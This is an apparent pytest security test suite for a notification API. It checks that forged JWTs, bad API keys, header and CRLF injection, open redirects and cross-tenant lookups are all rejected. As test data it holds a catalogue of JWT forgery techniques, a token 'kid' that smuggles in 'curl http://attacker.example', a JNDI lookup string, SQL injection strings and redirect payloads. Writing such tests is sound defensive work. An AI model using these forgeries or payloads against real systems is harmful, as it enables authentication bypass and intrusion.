"""What somebody may try who is not whom they say, and that it gets them nowhere."""

import asyncio
import base64
import contextlib
import json
import time
from collections.abc import AsyncIterator, Awaitable, Callable, Iterator
from datetime import timedelta
from typing import Any

import pytest
import pytest_asyncio
from joserfc import jwt
from joserfc.jwk import OctKey, RSAKey
from sqlalchemy import event

from postroom.domain.scope import Scope
from postroom.features.limits import FAR_ABOVE
from postroom.features.services import revoke_key
from tests.cognito import CLIENT_ID, Pool, new_key, running_pool
from tests.interfaces.api.forging import b64, by_hand, unsigned
from tests.interfaces.api.overheard import logged, said

pytestmark = pytest.mark.asyncio(loop_scope="module")

SERVICE_SECRET = "the-secret-of-the-makers-of-service-tokens"
NO_ID = "00000000-0000-4000-8000-000000000000"
NOW = int(time.time())
OFFICER = "amala.officer@hackney.gov.uk"


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def pool() -> AsyncIterator[Pool]:
    async with running_pool() as running:
        yield running


@pytest.fixture(scope="module")
def chosen(pool: Pool) -> dict[str, str]:
    return pool.settings | {"SERVICE_TOKEN_SECRET": SERVICE_SECRET}


def old(**changed: Any) -> dict[str, Any]:
    """The claims of the old sign-in."""
    told = {"sub": "1", "email": OFFICER, "groups": ["demo-officers"], "exp": int(time.time()) + 600}
    return {name: value for name, value in (told | changed).items() if value is not None}


def hs256(claims: dict[str, Any], secret: str | bytes, **header: Any) -> str:
    return jwt.encode({"alg": "HS256"} | header, claims, OctKey.import_key(secret))


def raw_hs256(office: Any, claims: bytes, head: Any = None) -> str:
    """Rightly signed, whatever the claims are."""
    return by_hand(secret_of(office).encode(), head or {"alg": "HS256"}, claims)


PUBLIC_FORMS = ("PEM", "DER", "JWK", "modulus")


def public_forms(pool: Pool) -> dict[str, bytes]:
    """The ways in which a public key could be taken for a secret."""
    key = pool.keys["first"]
    public = key.as_dict(private=False)
    return {
        "PEM": key.as_pem(private=False),
        "DER": key.as_der(private=False),
        "JWK": json.dumps(public).encode(),
        "modulus": str(public["n"]).encode(),
    }


def confused(form: str, *, with_issuer: bool) -> "Forge":
    def forge(_: Any, pool: Pool) -> str:
        claims = pool.claims() if with_issuer else old()
        return by_hand(public_forms(pool)[form], {"alg": "HS256", "kid": "first"}, claims)

    return forge


def changed_claims(token: str, **changed: Any) -> str:
    head, body, signature = token.split(".")
    claims = json.loads(base64.urlsafe_b64decode(body + "=="))
    return f"{head}.{b64(claims | changed)}.{signature}"


def other_signature(token: str) -> str:
    head, body, signature = token.split(".")
    middle = len(signature) // 2
    letter = "A" if signature[middle] != "A" else "B"
    return f"{head}.{body}.{signature[:middle]}{letter}{signature[middle + 1 :]}"


def secret_of(office: Any) -> str:
    secret: str = office.app.settings.officer_token_secret
    return secret


def of_old(**changed: Any) -> "Forge":
    return lambda office, _: hs256(old(**changed), secret_of(office))


def of_pool(header: dict[str, Any] | None = None, **changed: Any) -> "Forge":
    return lambda _, pool: pool.token(header=header, **changed)


STRANGERS_KEY = new_key()


def strangers(header: Callable[[Pool, RSAKey], dict[str, Any]]) -> "Forge":
    """Signed with a key of the attacker's own, which the header offers."""
    return lambda _, pool: pool.token(header=header(pool, STRANGERS_KEY), key=STRANGERS_KEY)


Forge = Callable[[Any, Pool], str]

TOKENS: dict[str, Forge] = {
    **{f"alg {alg}": lambda _, __, alg=alg: unsigned(alg, old()) for alg in ("none", "None", "NONE", "")},
    "alg none of the pool": lambda _, pool: unsigned("none", pool.claims()),
    "alg none with a signature": lambda office, _: unsigned(
        "none", old(), hs256(old(), secret_of(office)).split(".")[2]
    ),
    "alg none of a service": lambda _, __: unsigned("none", {"id": 1, "consumerName": "x"}),
    **{f"key confusion by {form}": confused(form, with_issuer=True) for form in PUBLIC_FORMS},
    "key confusion without issuer": confused("PEM", with_issuer=False),
    "the pool's issuer by the old secret": lambda office, pool: hs256(
        pool.claims(), secret_of(office), kid="first"
    ),
    "an old token by the pool's key": of_pool(iss=None, aud=None),
    "RS384 of the pool": lambda _, pool: jwt.encode(
        {"alg": "RS384", "kid": "first"}, pool.claims(), pool.keys["first"], algorithms=["RS384"]
    ),
    "HS512 by the old secret": lambda office, _: jwt.encode(
        {"alg": "HS512"}, old(), OctKey.import_key(secret_of(office)), algorithms=["HS512"]
    ),
    "a service by the officers' secret": lambda office, _: hs256(
        {"id": 1, "consumerName": "demo"}, secret_of(office)
    ),
    "an officer by the services' secret": lambda _, __: hs256(old(), SERVICE_SECRET),
    "an officer who names a consumer": of_old(consumerName="demo", id=1),
    "a service that was not admitted": lambda _, __: hs256({"id": 1, "consumerName": "demo"}, SERVICE_SECRET),
    "signed with nothing": lambda _, __: by_hand(b"", {"alg": "HS256"}, old()),
    "expired, old": of_old(exp=NOW - 60),
    "expired, pool": of_pool(exp=NOW - 60),
    "without an end, old": of_old(exp=None),
    "without an end, pool": of_pool(exp=None),
    "not yet valid, old": of_old(nbf=NOW + 3600),
    "not yet valid, pool": of_pool(nbf=NOW + 3600),
    "issued in the future": of_pool(iat=NOW + 3600),
    "another audience": of_pool(aud="another-client"),
    "other audiences": of_pool(aud=["another-client", CLIENT_ID + "0"]),
    "no audience": of_pool(aud=None),
    "an audience in an access token": of_pool(aud=None, client_id=CLIENT_ID, token_use="access"),
    "an access token": of_pool(token_use="access"),
    "an audience that is not us, old": of_old(aud="another-service"),
    "another issuer": of_pool(iss="https://cognito-idp.eu-west-2.amazonaws.com/eu-west-2_Other"),
    "another pool": lambda _, pool: pool.token(key=STRANGERS_KEY, iss=pool.url + "2"),
    "an issuer with a slash": lambda _, pool: pool.token(iss=pool.url + "/"),
    "issuers": lambda _, pool: pool.token(iss=[pool.url]),
    "tampered payload, old": lambda office, _: changed_claims(
        hs256(old(), secret_of(office)), groups=["admins"]
    ),
    "tampered payload, pool": lambda _, pool: changed_claims(pool.token(), email="boss@hackney.gov.uk"),
    "tampered signature, old": lambda office, _: other_signature(hs256(old(), secret_of(office))),
    "tampered signature, pool": lambda _, pool: other_signature(pool.token()),
    "no signature": lambda _, pool: pool.token().rpartition(".")[0] + ".",
    "another token's signature": lambda _, pool: (
        pool.token(jti="1").rpartition(".")[0] + "." + pool.token(jti="2").rpartition(".")[2]
    ),
    "unknown kid": of_pool({"kid": "second"}),
    "no kid": lambda _, pool: jwt.encode(
        {"alg": "RS256"}, pool.claims(), pool.keys["first"], algorithms=["RS256"]
    ),
    "kid as a path": of_pool({"kid": "../../../../dev/null"}),
    "kid as SQL": of_pool({"kid": "x' UNION SELECT 'secret' --"}),
    "kid as a command": of_pool({"kid": "first; curl http://attacker.example"}),
    "kid as an address": lambda _, pool: pool.token(header={"kid": pool.url + "/stranger"}),
    "kid as a number": lambda _, pool: unsigned_like(pool, {"alg": "RS256", "kid": 1}),
    "kid as a list": lambda _, pool: unsigned_like(pool, {"alg": "RS256", "kid": ["first"]}),
    "alg as a list": lambda _, pool: unsigned_like(pool, {"alg": ["RS256"], "kid": "first"}),
    "jku": strangers(lambda pool, _: {"jku": pool.url + "/stranger"}),
    "x5u": strangers(lambda pool, _: {"x5u": pool.url + "/stranger"}),
    "jwk": strangers(lambda _, key: {"jwk": key.as_dict(private=False)}),
    "x5c": strangers(lambda _, key: {"x5c": [base64.b64encode(key.as_der(private=False)).decode()]}),
    "jku of the old sign-in": lambda _, pool: hs256(old(), "x" * 40, jku=pool.url + "/stranger"),
    "an unknown crit": lambda office, _: raw_hs256(
        office, json.dumps(old()).encode(), {"alg": "HS256", "crit": ["admin"], "admin": True}
    ),
    "oversized by groups": of_old(groups=["g" * 50] * 200),
    "oversized by its header": lambda office, _: hs256(old(), secret_of(office), kid="k" * 400) + "A" * 8_000,
    "oversized by far": lambda _, __: "a." + "b" * 30_000 + ".c",
    "nested": lambda office, _: raw_hs256(
        office, b'{"exp":9999999999,"email":' + b"[" * 2_500 + b"]" * 2_500 + b"}"
    ),
    "end is not a number": lambda office, _: raw_hs256(office, b'{"exp": NaN, "email": "a@b.c"}'),
    "end is infinite": lambda office, _: raw_hs256(office, b'{"exp": Infinity, "email": "a@b.c"}'),
    "end is huge": lambda office, _: raw_hs256(office, b'{"exp": 1e999, "email": "a@b.c"}'),
    "end is text": of_old(exp="9999999999"),
    "end is true": of_old(exp=True),
    "end twice": lambda office, _: raw_hs256(office, b'{"exp": 9999999999, "email": "a@b.c", "exp": 1}'),
    "address is a group": of_old(email="group:demo-officers"),
    "address is a group's with an at": of_old(email="group:demo-officers@x"),
    "address without a name": of_old(email="@hackney.gov.uk"),
    "address in lines": of_old(email="a@b.c\nx: y"),
    "address without end": of_old(email="a" * 400 + "@hackney.gov.uk"),
    "addresses": of_old(email=[OFFICER]),
    "no address, pool": of_pool(email=None),
    **{
        f"address not verified, by {said!r}": of_pool(email_verified=said)
        for said in (False, "false", 0, 1, "")
    },
    "groups as text, old": of_old(groups="demo-officers"),
    "groups as an object, pool": of_pool(**{"custom:groups": {"demo-officers": True}}),
    "claims are a list": lambda office, _: raw_hs256(office, b"[]"),
    "claims are text": lambda office, _: raw_hs256(office, b'"x"'),
    "claims are not UTF-8": lambda office, _: raw_hs256(office, b'{"email": "\xff@x"}'),
    "five parts": lambda _, __: "a.b.c.d.e",
    "four parts": lambda _, pool: pool.token() + ".x",
    "no parts": lambda _, __: "..",
}


def unsigned_like(pool: Pool, head: dict[str, Any]) -> str:
    return f"{b64(head)}.{b64(pool.claims())}.{pool.token().rpartition('.')[2]}"


@pytest.mark.parametrize("forge", TOKENS.values(), ids=TOKENS)
async def test_a_forged_token_is_401_and_leads_to_no_address(office: Any, pool: Pool, forge: Forge) -> None:
    token = forge(office, pool)
    for _ in range(2):
        problem = await office.problem(401, "GET", "/notifications", token=token)
        assert "not valid" in problem["detail"]

    assert set(pool.asked) <= {"/pool/.well-known/jwks.json"}


async def test_the_tokens_that_they_were_forged_from_are_let_in(office: Any, pool: Pool) -> None:
    right = {
        "old": hs256(old(), secret_of(office)),
        "old, by hand": raw_hs256(office, json.dumps(old()).encode()),
        "pool": pool.token(),
        "pool, verified": pool.token(email_verified=True),
        "pool, verified in text": pool.token(email_verified="true"),
        "pool, with an address that is not followed": pool.token(header={"jku": pool.url + "/stranger"}),
        "end far off": raw_hs256(office, b'{"exp": 1' + b"0" * 300 + b', "email": "a@b.c"}'),
    }
    found = {name: (await office.get("/notifications", token=token)).status for name, token in right.items()}

    assert found == dict.fromkeys(right, 200)
    assert set(pool.asked) <= {"/pool/.well-known/jwks.json"}


async def test_unknown_key_ids_do_not_set_us_upon_the_issuer(office: Any, pool: Pool) -> None:
    assert (await office.get("/notifications", token=pool.token())).status == 200
    before = len(pool.asked)
    answers = await asyncio.gather(
        *(office.get("/notifications", token=pool.token(header={"kid": f"k{n}"})) for n in range(40))
    )

    assert {answer.status for answer in answers} == {401}
    assert len(pool.asked) <= before + 1


async def test_two_authorization_headers_are_401(office: Any, pool: Pool) -> None:
    right = f"Authorization: Bearer {pool.token()}"

    assert (await said(office, "GET /notifications", right)).startswith("HTTP/1.1 200")
    for other in ("Authorization: Bearer a.b.c", right, "AUTHORIZATION: x"):
        for lines in ((right, other), (other, right)):
            for request in ("GET /notifications", "POST /notifications", f"GET /notifications/{NO_ID}"):
                assert (await said(office, request, *lines)).startswith("HTTP/1.1 401")


def key_of(**how: Any) -> Callable[[Any], Awaitable[str]]:
    async def made(office: Any) -> str:
        return str((await office.issue(**how)).key)

    return made


async def expired(office: Any) -> str:
    hour = timedelta(hours=1)
    now = office.app.clock()
    return str((await office.issue(now=now - 2 * hour, expires_at=now - hour)).key)


async def revoked(office: Any) -> str:
    made = await office.issue()
    async with office.app.database.transaction() as conn:
        await revoke_key(conn, made.id, service_id=made.service_id, now=office.app.clock())
    return str(made.key)


def plain(key: str) -> Callable[[Any], Awaitable[str]]:
    async def made(_: Any) -> str:
        return key

    return made


async def cut(office: Any) -> str:
    return str(office.key[:-1])


async def lower(office: Any) -> str:
    return str(office.key.lower())


async def its_digest(office: Any) -> str:
    return str(office.app.vault.digest(office.key).hex())


async def a_token(office: Any) -> str:
    return str(office.token())


KEYS: dict[str, tuple[Callable[[Any], Awaitable[str]], int]] = {
    "revoked": (revoked, 401),
    "expired": (expired, 401),
    "for reading": (key_of(scopes=[Scope.READ]), 403),
    "for templates": (key_of(scopes=[Scope.TEMPLATES]), 403),
    "cut": (cut, 401),
    "in other capitals": (lower, 401),
    "its digest": (its_digest, 401),
    "an officer's token": (a_token, 401),
    "the prefix alone": (plain("postroom_"), 401),
    "SQL": (plain("' OR 1=1 --"), 401),
    "a pattern": (plain("postroom_%"), 401),
    "long": (plain("postroom_" + "x" * 20_000), 401),
    "an admitted token's place": (plain('["42","Housing Finance"]'), 401),
}


@pytest.mark.parametrize(("make", "status"), KEYS.values(), ids=KEYS)
async def test_a_wrong_key_posts_nothing(
    office: Any, make: Callable[[Any], Awaitable[str]], status: int
) -> None:
    key = await make(office)
    answer = await office.refused(office.screen(), status=status, key=key)

    assert key not in answer.text + str(answer.headers)


INJECTED = {
    "a line": b"x-correlation-id: a\nINJECTED: 1",
    "a line by a carriage return": b"x-correlation-id: a\rINJECTED: 1",
    "a folded line": b"x-correlation-id: a\r\n INJECTED: 1",
    "a header more": b"x-correlation-id: INJECTED a\r\nx-correlation-id: INJECTED b",
    "JSON": b'x-correlation-id: INJECTED", "level": "critical',
    "escapes of a terminal": b"x-correlation-id: \x1b[31mINJECTED",
    "a zero": b"x-correlation-id: INJECTED\x00",
    "other bytes": b"x-correlation-id: INJECTED\xff\xfe",
    "long": b"x-correlation-id: INJECTED" + b"x" * 100,
    "percent signs": b"x-correlation-id: INJECTED%0d%0aSet-Cookie:x",
    "markup": b"x-correlation-id: <script>INJECTED</script>",
    "a lookup": b"x-correlation-id: ${jndi:ldap://INJECTED}",
    "user agent": b"User-Agent: INJECTED\x1b[31m",
    "forwarded": b"X-Forwarded-For: INJECTED\r\nX-Forwarded-Prefix: /INJECTED\r\nX-Original-URL: /INJECTED",
    "host": b"X-Forwarded-Host: INJECTED",
    "traceparent": b"traceparent: INJECTED",
    "authorization": b"Authorization: INJECTED",
    "api key": b"x-api-key: INJECTED",
}


@pytest.mark.parametrize("header", INJECTED.values(), ids=INJECTED)
async def test_nothing_of_a_header_comes_into_headers_or_logs(office: Any, header: bytes) -> None:
    with logged() as stream:
        answer = await said(office, "GET /notifications", header)
        await asyncio.sleep(0.1)

    assert answer.startswith(("HTTP/1.1 401", "HTTP/1.1 400"))
    assert "INJECTED" not in answer + stream.getvalue()
    for line in stream.getvalue().splitlines():
        assert set(json.loads(line)) >= {"event", "level", "timestamp"}


async def test_a_right_correlation_id_is_kept(office: Any) -> None:
    with logged() as stream:
        answer = await said(office, "GET /notifications", "x-correlation-id: our-Own.id_1")
        await asyncio.sleep(0.1)

    assert "x-correlation-id: our-Own.id_1" in answer
    assert json.loads(stream.getvalue().splitlines()[-1])["correlation_id"] == "our-Own.id_1"


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("/notifications?targetId=a%0d%0aSet-Cookie:%20x=INJECTED", 400),
        ("/notifications?reference=INJECTED%0a", 400),
        ("/notifications?INJECTED%0d%0a=1", 400),
        ("/notifications/INJECTED%0d%0aSet-Cookie:x", 400),
        ("/INJECTED%0d%0aSet-Cookie:x", 404),
        ("/message-status/INJECTED%0a/" + NO_ID, 404),
        ("/templates/INJECTED%00", 404),
    ],
)
async def test_nothing_of_an_address_comes_into_headers_or_logs(office: Any, path: str, status: int) -> None:
    with logged() as stream:
        answer = await office.get(path)
        await asyncio.sleep(0.1)

    assert answer.status == status
    assert "INJECTED" not in str(answer.headers) + stream.getvalue()


@pytest.mark.parametrize(
    ("header", "status"),
    [
        ("Idempotency-Key: \x1b[31mINJECTED", 400),
        ("Idempotency-Key: " + "k" * 300, 400),
        ("If-Match: INJECTED", 201),
    ],
)
async def test_odd_headers_of_a_post_come_into_no_answer(office: Any, header: str, status: int) -> None:
    body = json.dumps(office.screen()).encode()
    lines = (f"x-api-key: {office.key}", "Content-Type: application/json", f"Content-Length: {len(body)}")
    answer = await said(office, "POST /notifications", *lines, header, body=body)

    assert answer.startswith(f"HTTP/1.1 {status}")
    assert "INJECTED" not in answer


FORWARDED = {
    "X-Forwarded-Host": "attacker.example",
    "X-Forwarded-Proto": "https",
    "X-Forwarded-Prefix": "//attacker.example",
    "X-Original-URL": "//attacker.example",
    "Forwarded": "host=attacker.example",
    "Host": "attacker.example",
}
ELSEWHERE = [
    "//attacker.example",
    "//attacker.example/",
    "//attacker.example/notifications/..",
    "/%2f%2fattacker.example/%2e%2e",
    "/\\attacker.example",
    "/%5cattacker.example/",
    "/;@attacker.example",
    "/https://attacker.example",
    "/docs/",
    "/docs/..//attacker.example",
    "/docs/assets/https://attacker.example/x.js",
    "/notifications/",
    "/notifications/?next=https://attacker.example",
    "/?next=//attacker.example",
    "/docs?url=https://attacker.example&next=https://attacker.example",
    "/openapi.json?redirect=https://attacker.example",
    "/notifications?redirect_uri=https://attacker.example",
    "/notifications?limit=1",
    "/feedback?limit=1",
]


@pytest.mark.parametrize("path", ELSEWHERE)
async def test_nobody_is_led_elsewhere(office: Any, path: str) -> None:
    """No answer redirects, nor names a host that the asker chose."""
    for _ in range(2):
        await office.accepted(office.screen())
    lines = [f"{name}: {value}" for name, value in FORWARDED.items() if name != "Host"]
    answer = await said(office, f"GET {path}", f"x-api-key: {office.key}", *lines)

    head, _, body = answer.partition("\r\n\r\n")
    assert head.split()[1] in ("200", "400", "404")
    assert "location:" not in head.lower()
    assert "attacker" not in head
    assert "attacker" not in body or '"errors"' in body


async def test_where_a_notification_is_does_not_depend_on_what_a_caller_says_of_hosts(office: Any) -> None:
    answer = await office.post(office.screen(), headers=FORWARDED)

    assert answer.status == 201
    assert answer.headers["Location"] == f"/notifications/{answer.body['id']}"
    assert "attacker" not in answer.text


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def theirs(office: Any) -> dict[str, str]:
    """The ids of an email of the service `demo`."""
    made = await office.accepted(office.email())
    done = await office.ended(made["id"])
    delivery = done["deliveries"][0]
    return {"notification": made["id"], "delivery": delivery["id"], "message": delivery["notifyId"]}


PATCH = {"actionType": "IsRead"}
BY_ID = {
    "get": ("GET", "/notifications/{id}", None, ("notification", "delivery", "message")),
    "timeline": ("GET", "/notifications/{id}/timeline", None, ("notification", "delivery", "message")),
    "act": ("PATCH", "/notifications/{id}", PATCH, ("notification", "delivery", "message")),
    "act, wrongly": ("PATCH", "/notifications/{id}", {"actionType": "Approved"}, ("notification",)),
    "remove": ("DELETE", "/notifications/{id}", None, ("notification", "delivery", "message")),
    "status, as their own": ("GET", "/message-status/{own}/{id}", None, ("notification", "delivery")),
    "status, as theirs": (
        "GET",
        "/message-status/demo/{id}",
        None,
        ("notification", "delivery", "message"),
    ),
    "get a dead letter": ("GET", "/dead-letters/{id}", None, ("delivery", "notification")),
    "replay": ("POST", "/dead-letters/{id}/replay", {}, ("delivery", "notification")),
    "list after": ("GET", "/notifications?cursor={id}", None, ("notification",)),
}
WHO = ("a service without a key", "a service with a key", "an officer")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def callers(office: Any) -> dict[str, tuple[str, dict[str, str]]]:
    """Strangers to it, with the names of their services."""
    return {
        WHO[0]: ("other", {"key": office.other_key}),
        WHO[1]: ("with-a-key", {"key": await office.register("with-a-key", FAR_ABOVE)}),
        WHO[2]: ("", {"token": office.token("sam@hackney.gov.uk")}),
    }


@pytest.mark.parametrize("who", WHO)
@pytest.mark.parametrize(("method", "path", "body", "kinds"), BY_ID.values(), ids=BY_ID)
async def test_what_is_anothers_is_as_what_is_not_there(
    office: Any,
    theirs: dict[str, str],
    callers: dict[str, tuple[str, dict[str, str]]],
    who: str,
    method: str,
    path: str,
    body: Any,
    kinds: tuple[str, ...],
) -> None:
    """The same answer to the letter, for the same number of statements."""
    name, how = callers[who]
    headers = {"If-Match": '"1-u"'} if method == "PATCH" else {}

    async def asked(some_id: str) -> tuple[int, str, int]:
        with statements(office) as counted:
            answer = await office.call(
                method, path.format(id=some_id, own=name), body=body, headers=headers, **how
            )
        told = {name: value for name, value in as_json(answer.text).items() if name != "correlationId"}
        return answer.status, json.dumps(told), len(counted)

    unknown = await asked(NO_ID)
    for kind in kinds:
        assert await asked(theirs[kind]) == unknown
    assert unknown[0] in (400, 403, 404) or unknown[:2] == (200, "{}")
    assert (await office.get(f"/notifications/{theirs['notification']}")).body["isReadStatus"] is False


def as_json(text: str) -> dict[str, Any]:
    value = json.loads(text)
    return value if isinstance(value, dict) else dict.fromkeys(map(str, value))


@contextlib.contextmanager
def statements(office: Any) -> Iterator[list[str]]:
    """The statements that look for a caller's notifications and deliveries; no worker makes such."""
    found: list[str] = []

    def note(_: Any, __: Any, statement: str, *___: Any) -> None:
        if "notifications.audience, " in statement or "deliveries.service_id = " in statement:
            found.append(statement)

    engines = {office.app.database.writer.sync_engine, office.app.database.reader.sync_engine}
    for engine in engines:
        event.listen(engine, "before_cursor_execute", note)
    try:
        yield found
    finally:
        for engine in engines:
            event.remove(engine, "before_cursor_execute", note)
